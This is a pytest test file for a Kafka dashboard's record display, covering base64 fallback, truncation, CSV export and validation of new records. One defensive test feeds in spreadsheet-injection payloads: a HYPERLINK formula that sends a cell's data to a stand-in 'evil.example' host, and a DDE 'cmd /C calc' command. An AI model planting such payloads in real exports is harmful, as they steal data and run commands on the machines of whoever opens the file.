"""Records as JSON and CSV, and records to write."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest

from minikafka.core.client.consumer.fetched import ConsumerRecord
from minikafka.page.dashboard.records.decoder import Decoder
from minikafka.page.dashboard.records.decoding import AUTO
from minikafka.page.dashboard.records.new_record import parse_new_record
from minikafka.page.dashboard.records.rows import (
    CSV_COLUMNS,
    csv_line,
    csv_row,
    record_facts,
    shown,
)

DECODER = Decoder("t", AUTO, AUTO, None)


def record(
    offset: int,
    value: bytes | None = b"v",
    partition: int = 0,
    timestamp: int = 0,
    headers: tuple[tuple[str, bytes | None], ...] = (),
) -> ConsumerRecord:
    return ConsumerRecord("t", partition, offset, timestamp, b"k", value, headers, 0)


@pytest.mark.mission("GLASS-26")
def test_bytes_that_are_no_text_are_base64_and_long_ones_are_cut() -> None:
    assert shown(None, 4) == (None, "null", False)
    assert shown(b"", 4) == ("", "utf8", False)
    assert shown(b"\xff\x00", 4) == (base64.b64encode(b"\xff\x00").decode(), "base64", False)
    assert shown(b"abcde", 4) == ("abcd", "utf8", True)
    assert shown("abcé".encode(), 4) == ("abc", "utf8", True)  # not in the middle of a character
    assert shown(b"abc\xff", 4) == (base64.b64encode(b"abc\xff").decode(), "base64", False)
    assert shown(b"\xffabcd", 4).encoding == "base64"
    facts = record_facts(
        record(3, b"x" * 10, headers=(("a", b"1"), ("b", b"\xff"), ("c", None))), DECODER, 4
    )
    assert facts["value"] == "xxxx"
    assert facts["value_size"] == 10
    assert facts["truncated"]
    assert facts["headers"] == [["a", "1"], ["b", "/w==", "base64"], ["c", None]]


@pytest.mark.mission("GLASS-26")
def test_a_shown_record_can_be_written_again() -> None:
    before = record(3, None, headers=(("a", b"1"), ("b", b"\xff"), ("c", None)))
    facts = record_facts(before, DECODER, 100)
    new = parse_new_record(
        {"topic": "t", **{name: facts[name] for name in ("partition", "key", "value", "headers")}}
    )
    assert new == ("t", 0, before.key, None, before.headers, 1)


def test_csv_has_a_row_for_each_record() -> None:
    nasty = record(3, b'a,"b"\nc\r', headers=(("h", b"1"),))
    text = (
        csv_line(CSV_COLUMNS)
        + csv_row(nasty, DECODER, 100)
        + csv_row(record(4, None), DECODER, 100)
    )
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["offset"], row["value"], row["value_encoding"]) for row in rows] == [
        ("3", 'a,"b"\nc\r', "text"),
        ("4", "", "null"),
    ]
    assert json.loads(rows[0]["headers"]) == [["h", "1"]]


def test_a_carriage_return_does_not_break_a_row() -> None:
    text = csv_row(record(3, b"a\rb"), DECODER, 100)
    ((_, offset, _, _, value, *_),) = csv.reader(io.StringIO(text, newline=""))
    assert (offset, value) == ("3", "a\rb")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/"&A1)', '\'=HYPERLINK("http://evil.example/"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-", "'-"),
        *((number, number) for number in ("-5", "+49", "-1.5e-3")),
        ("a=1", "a=1"),
    ],
)
def test_a_spreadsheet_runs_no_record(value: str, cell: str) -> None:
    text = csv_row(record(3, value.encode()), DECODER, 100)
    (row,) = csv.reader(io.StringIO(text, newline=""))
    assert row[4] == cell


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        ({"topic": None}, "topic needs"),
        ({"colour": 1}, "no field colour"),
        ({"partition": True}, "partition needs"),
        ({"count": 0}, "count needs"),
        ({"count": 10**6}, "count needs"),
        ({"encoding": "utf16"}, "encoding needs"),
        ({"value": 5}, "value needs a text"),
        ({"value": "é", "encoding": "base64"}, "value is not base64"),
        ({"key": "\ud800"}, "key is not utf8"),
        ({"headers": {"a": "b"}}, "headers needs"),
        ({"headers": [["a"]]}, "headers needs"),
    ],
)
def test_a_wrong_record_is_refused_with_a_sentence(
    change: dict[str, object], sentence: str
) -> None:
    with pytest.raises(ValueError, match=sentence):
        parse_new_record({"topic": "t", "value": "v", **change})
